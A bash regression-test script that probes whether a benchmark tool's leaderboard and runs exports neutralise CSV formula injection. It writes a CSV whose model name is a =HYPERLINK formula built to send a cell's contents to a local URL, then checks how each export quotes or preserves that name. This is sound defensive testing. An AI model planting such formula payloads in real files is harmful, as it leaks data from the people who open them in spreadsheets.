#!/usr/bin/env bash
# Issue 22: rerun the probes of each fixed class and print one verdict line per probe.
#
#   bash benchmarks/probes_issue22.sh [probe ...]      # default: every probe below
#
# Run from the repository root with the cfbench to test on PYTHONPATH (or installed). Probes use only
# CPU and a scratch folder; none downloads anything. A verdict is FIXED when the command does what the
# issue asks, OPEN otherwise; the command and its last output lines are printed under each verdict.
set -u
PY=${PYTHON:-python}
W=$(mktemp -d)
trap 'rm -rf "$W"' EXIT

cf() { $PY -c 'from cfbench.cli import main; main()' "$@"; }
verdict() { if [ "$1" = 0 ]; then echo "FIXED  $2"; else echo "OPEN   $2"; fi; }

probe_csv_injection() {  # class 1
  printf 'dataset,version,metric,mode,"=HYPERLINK(""http://127.0.0.1:9/x?""&A1;""click"")"\nBoolQ,314797,accuracy,ppl,61.25\n' > "$W/oc.csv"
  cf import "$W/oc.csv" --results "$W/r1" >/dev/null 2>&1
  out=$(cf leaderboard --paper none --results "$W/r1" --format csv 2>&1)
  echo "$out" | grep -q "^\"'=HYPERLINK" ; verdict $? "1 leaderboard --format csv quotes a formula model name"
  out=$(cf runs --results "$W/r1" --format csv 2>&1)
  echo "$out" | grep -q "^\"\\?'=HYPERLINK" ; verdict $? "1 runs --format csv quotes a formula model name"
  out=$(cf leaderboard --paper none --results "$W/r1" --format json 2>&1)
  echo "$out" | grep -q '"name": "=HYPERLINK' ; verdict $? "1 leaderboard --format json keeps the name as it was"
}

PROBES=(probe_csv_injection)
for p in "${@:-${PROBES[@]}}"; do "$p"; done
